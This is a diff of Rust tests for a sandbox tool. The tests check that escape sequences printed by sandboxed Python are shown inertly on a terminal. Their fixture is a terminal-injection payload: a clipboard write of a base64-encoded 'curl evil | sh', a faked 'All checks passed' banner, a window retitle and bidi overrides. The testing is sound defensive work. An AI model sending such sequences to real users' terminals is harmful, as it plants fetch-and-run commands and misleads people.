@@ -364,3 +364,196 @@ fn image_build_offline_path(#[case] engine: &str) {
         .code(2)
         .stderr(predicates::str::contains("requirements.txt"));
 }
+
+/// The terminal attack: an OSC 52 clipboard write, a screen clear and a fake banner on
+/// stdout; colours, a C1 CSI, bidi overrides, a carriage return, ENQ and DEL on stderr;
+/// an exception whose message retitles the window. Python escapes: the sandbox makes the
+/// control characters, this file holds none.
+const ATTACK: &str = r#"import sys
+print('\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1b[HBioCage 0.1.0 on docker. All checks passed.')
+sys.stdout.flush()
+sys.stderr.write('\x1b[31mred\x9b\u202etxt\u2066\r\x05\x7f\tok\n')
+raise ValueError('\x1b]0;pwned\x07')
+"#;
+
+/// What the attack writes to stdout, byte for byte.
+const ATTACK_STDOUT: &str =
+    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1b[HBioCage 0.1.0 on docker. All checks passed.\n";
+
+/// What the attack writes to stderr before its traceback, byte for byte.
+const ATTACK_STDERR: &str = "\x1b[31mred\u{9b}\u{202e}txt\u{2066}\r\x05\x7f\tok\n";
+
+/// Quotes `s` for `sh -c`.
+fn sh_quote(s: &str) -> String {
+    format!("'{}'", s.replace('\'', r"'\''"))
+}
+
+/// Runs `biocage --runtime ENGINE ARGS REDIRECT` in a pseudo-terminal (util-linux
+/// `script`): its stdout and stderr are a real terminal unless `redirect` sends one
+/// elsewhere. Returns the exit code and every byte the terminal received.
+fn in_a_terminal(engine: &str, args: &[&str], redirect: &str) -> (Option<i32>, Vec<u8>) {
+    let bin = assert_cmd::cargo::cargo_bin("biocage");
+    let mut line = sh_quote(bin.to_str().expect("UTF-8 path"));
+    for a in ["--runtime", engine].iter().chain(args) {
+        line.push(' ');
+        line.push_str(&sh_quote(a));
+    }
+    line.push_str(redirect);
+    let out = std::process::Command::new("script")
+        .args(["-qec", &line, "/dev/null"])
+        .stdin(std::process::Stdio::null())
+        .output()
+        .expect("util-linux `script` gives these tests a pseudo-terminal; install util-linux");
+    (out.status.code(), out.stdout)
+}
+
+/// Panics unless `term` is inert: no C0 control besides tab, newline and the carriage
+/// return the terminal's line discipline puts before each newline; no DEL; no C1
+/// control (UTF-8 C2 80-9F); no bidi override or isolate.
+fn assert_inert(term: &[u8]) {
+    let text = String::from_utf8_lossy(term);
+    for (i, &b) in term.iter().enumerate() {
+        let allowed = b == b'\t' || b == b'\n' || (b == b'\r' && term.get(i + 1) == Some(&b'\n'));
+        assert!(
+            allowed || (b >= 0x20 && b != 0x7f),
+            "byte {b:#04x} at {i} reached the terminal raw: {text:?}"
+        );
+    }
+    for c in text.chars() {
+        assert!(
+            !matches!(c, '\u{80}'..='\u{9f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'),
+            "{c:?} reached the terminal raw: {text:?}"
+        );
+    }
+}
+
+#[rstest]
+#[case::docker("docker")]
+#[case::podman("podman")]
+fn run_shows_sandbox_control_characters_inertly_on_a_terminal(#[case] engine: &str) {
+    if !engine_under_test(engine) {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("attack.py");
+    std::fs::write(&file, ATTACK).unwrap();
+    let file = file.to_str().unwrap();
+    // -q: no spinner, whose own drawing uses escape sequences.
+    let (code, term) = in_a_terminal(engine, &["-q", "run", "--allow-unenforced", file], "");
+    let text = String::from_utf8_lossy(&term);
+    assert_eq!(code, Some(1), "{text}");
+    assert_inert(&term);
+    for shown in [
+        r"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1b[HBioCage 0.1.0 on docker. All checks passed.",
+        "\\x1b[31mred\\x9b\\u202etxt\\u2066\\x0d\\x05\\x7f\tok",
+        r"ValueError: \x1b]0;pwned\x07",
+    ] {
+        assert!(text.contains(shown), "{shown:?} is not shown in {text:?}");
+    }
+    // Each stream is judged on its own: stdout to a file stays exact while stderr, still
+    // the terminal, is shown inertly.
+    let out = dir.path().join("stdout.txt");
+    let redirect = format!(" > {}", sh_quote(out.to_str().unwrap()));
+    let (code, term) = in_a_terminal(
+        engine,
+        &["-q", "run", "--allow-unenforced", file],
+        &redirect,
+    );
+    assert_eq!(code, Some(1));
+    assert_inert(&term);
+    assert!(String::from_utf8_lossy(&term).contains(r"ValueError: \x1b]0;pwned\x07"));
+    assert_eq!(std::fs::read_to_string(&out).unwrap(), ATTACK_STDOUT);
+}
+
+#[rstest]
+#[case::docker("docker")]
+#[case::podman("podman")]
+fn repl_shows_sandbox_control_characters_inertly_on_a_terminal(#[case] engine: &str) {
+    if !engine_under_test(engine) {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let input = dir.path().join("input.py");
+    // A value whose repr is raw escapes, printed output, and an exception.
+    std::fs::write(
+        &input,
+        "class A:\n    def __repr__(self):\n        return '\\x1b]0;pwned\\x07\\u202e'\n\nA()\nprint('\\x1b[2J\\x9b')\nraise ValueError('\\x1b[H')\n",
+    )
+    .unwrap();
+    let redirect = format!(" < {}", sh_quote(input.to_str().unwrap()));
+    let (code, term) = in_a_terminal(engine, &["-q", "repl", "--allow-unenforced"], &redirect);
+    let text = String::from_utf8_lossy(&term);
+    assert_eq!(code, Some(0), "{text}");
+    assert_inert(&term);
+    for shown in [
+        r"\x1b]0;pwned\x07\u202e",
+        r"\x1b[2J\x9b",
+        r"ValueError: \x1b[H",
+    ] {
+        assert!(text.contains(shown), "{shown:?} is not shown in {text:?}");
+    }
+}
+
+#[rstest]
+#[case::docker("docker")]
+#[case::podman("podman")]
+fn json_and_piped_output_stay_byte_exact(#[case] engine: &str) {
+    if !engine_under_test(engine) {
+        return;
+    }
+    let out = biocage(engine)
+        .args(RUN)
+        .write_stdin(ATTACK)
+        .assert()
+        .code(1)
+        .get_output()
+        .clone();
+    assert_eq!(String::from_utf8_lossy(&out.stdout), ATTACK_STDOUT);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.starts_with(ATTACK_STDERR), "{stderr:?}");
+    assert!(
+        stderr.contains("ValueError: \x1b]0;pwned\x07"),
+        "{stderr:?}"
+    );
+    // --json on a terminal: JSON escapes control characters itself, and the values in it
+    // are the sandbox's exact output.
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("attack.py");
+    std::fs::write(&file, ATTACK).unwrap();
+    let (code, term) = in_a_terminal(
+        engine,
+        &[
+            "--json",
+            "run",
+            "--allow-unenforced",
+            file.to_str().unwrap(),
+        ],
+        "",
+    );
+    assert_eq!(code, Some(1));
+    // JSON escapes every C0 control (ESC, BEL, CR...) itself; DEL, C1 and bidi
+    // characters it carries as they are, and so does --json.
+    assert!(
+        !term.iter().enumerate().any(|(i, &b)| b < 0x20
+            && !(b == b'\r' && term.get(i + 1) == Some(&b'\n'))
+            && b != b'\n'),
+        "{:?}",
+        String::from_utf8_lossy(&term)
+    );
+    let r = json_line(&term);
+    assert_eq!(r["stdout"], ATTACK_STDOUT);
+    assert_eq!(
+        r["stderr"].as_str().map(|s| s.starts_with(ATTACK_STDERR)),
+        Some(true)
+    );
+    // The JSON interface of the REPL, on a pipe: exact too.
+    let out = biocage(engine)
+        .args(["--json", "repl", "--allow-unenforced"])
+        .write_stdin(format!("{}\n", serde_json::json!({"code": ATTACK})))
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+    assert_eq!(json_line(&out)["stdout"], ATTACK_STDOUT);
+}
